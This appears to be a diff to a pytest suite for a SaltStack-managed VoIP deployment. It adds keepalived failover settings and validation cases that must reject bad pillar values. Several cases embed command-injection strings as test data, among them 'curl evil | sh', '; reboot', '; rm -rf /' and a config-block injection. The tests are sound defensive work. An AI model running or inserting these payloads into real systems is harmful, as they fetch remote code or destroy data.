@@ -23,6 +23,10 @@ COORDINATORS = ["lab-coord-1", "coord-syd-1"]
 KAMAILIOS = ["lab-coord-1", "coord-syd-1", "kam-mel-1"]
 AU_REPLICA = "192.0.2.20"
 FS_ADDRESS = "10.28.0.50"
+# What site/au.sls adds to the region's keepalived settings: Vultr's ids, Melbourne's address.
+AU_EDGE_SITE = {"reserved_ip_id": "cb676a46-66fd-4dfb-b839-443f2e6c0b60",
+                "peers": {"coord-syd-1": {"instance_id": "3e4a8b1c-2f6d-4c1a-9b7e-5d0f8a2c6e11"},
+                          "kam-mel-1": {"public_address": "45.76.112.9"}}}
 
 
 @pytest.fixture(scope="module")
@@ -35,7 +39,8 @@ def env(tmp_path_factory):
     secrets["freeswitch"]["signalwire_token"] = "pat_fake_signalwire_token_for_tests"
     (tmp / "secrets.sls").write_text(json.dumps({"secrets": secrets}))
     (site / "au.sls").write_text(json.dumps({"postgres": {"replicas": [AU_REPLICA]},
-                                             "freeswitch": {"node_address": FS_ADDRESS}}))
+                                             "freeswitch": {"node_address": FS_ADDRESS},
+                                             "keepalived": AU_EDGE_SITE}))
     config = write_minion_config(tmp / "etc", tmp / "secrets.sls", tmp / "pillar")
     # A media node derives its xml_curl password from its minion key.
     pki = tmp / "etc" / "root" / "etc" / "salt" / "pki" / "minion"
@@ -98,12 +103,13 @@ def test_every_role_renders_its_formulas(lowstate, minion_id):
     # The lab never runs ufw on the host it shares (firewall:enabled false).
     expected = {"common"} if minion_id.startswith("lab-") else {"common", "firewall"}
     if ROLE_OF[minion_id] == "coordinator":
-        expected |= {"postgres", "pgbouncer", "redis", "rtpengine", "kamailio", "api", "nginx", "salt_master"}
+        expected |= {"postgres", "pgbouncer", "redis", "rtpengine", "kamailio", "keepalived", "api", "nginx",
+                     "salt_master"}
         # The lab's plan is on loopback: the network formula has nothing to do there;
         # and the lab runs SIPp stand-ins where production has FreeSWITCH nodes.
         expected |= {"media_standin"} if minion_id.startswith("lab-") else {"network"}
     if ROLE_OF[minion_id] == "kamailio-standby":
-        expected |= {"kamailio"}
+        expected |= {"kamailio", "keepalived"}
     if ROLE_OF[minion_id] == "freeswitch":
         expected |= {"freeswitch", "freeswitch.ready"}
     assert formulas == expected
@@ -250,6 +256,24 @@ def test_lab_needs_no_interface(lowstate):
     ({"pgbouncer": {"stats_users": ["gopbx_metrics,admin"]}}, "pgbouncer:stats_users:0"),
     ({"api": {"pip_options": "--index-url http://x; curl evil | sh"}}, "api:pip_options"),
     ({"redis": "512"}, "redis"),
+    # The SIP edge's VRRP group and public side.
+    ({"keepalived": {"advert_interval": 0}}, "keepalived:advert_interval"),
+    ({"keepalived": {"advert_interval": "0.1; reboot"}}, "keepalived:advert_interval"),
+    ({"keepalived": {"virtual_router_id": 256}}, "keepalived:virtual_router_id"),
+    ({"keepalived": {"vrrp_interface": "wg0 }\nvrrp_instance X {"}}, "keepalived:vrrp_interface"),
+    ({"keepalived": {"peers": {"coord-syd-1": {"priority": 255}}}}, "keepalived:peers:coord-syd-1:priority"),
+    ({"keepalived": {"peers": {"coord-syd-1": {"address": "10.29.0.1/24"}}}}, "keepalived:peers:coord-syd-1:address"),
+    ({"keepalived": {"peers": {"coord-syd-1.evil": {"address": "10.29.0.9", "priority": 9, "location": "syd"}}}},
+     "keepalived:peers"),
+    ({"keepalived": {"peers": {"kam-mel-1": {"priority": 150}}}}, "keepalived:peers"),
+    ({"keepalived": {"peers": {"kam-mel-1": {"address": "10.29.0.1"}}}}, "keepalived:peers"),
+    ({"keepalived": {"peers": {"coord-syd-1": {"instance_id": ""}}}}, "keepalived:peers:coord-syd-1:instance_id"),
+    ({"keepalived": {"reserved_ip_id": ""}}, "keepalived:reserved_ip_id"),
+    ({"keepalived": {"sip_address": ""}}, "keepalived:sip_address"),
+    ({"keepalived": {"dns": {"domain": "", "name": "sip", "ttl": 30}}}, "keepalived:dns:domain"),
+    ({"keepalived": {"dns": {"ttl": 1}}}, "keepalived:dns:ttl"),
+    ({"keepalived": {"vultr_api_url": "http://x/\"; rm -rf /"}}, "keepalived:vultr_api_url"),
+    ({"secrets": {"vultr": {"edge_api_key": None}}}, "secrets:vultr:edge_api_key"),
     ({"redis": {"required_secrets": []}}, "redis"),
     ({"secrets": {"postgres": {"salt": "short"}}}, "secrets:postgres:salt"),
     ({"secrets": {"postgres": {"salt": "pässwörd-with-umlauts-1234"}}}, "secrets:postgres:salt"),
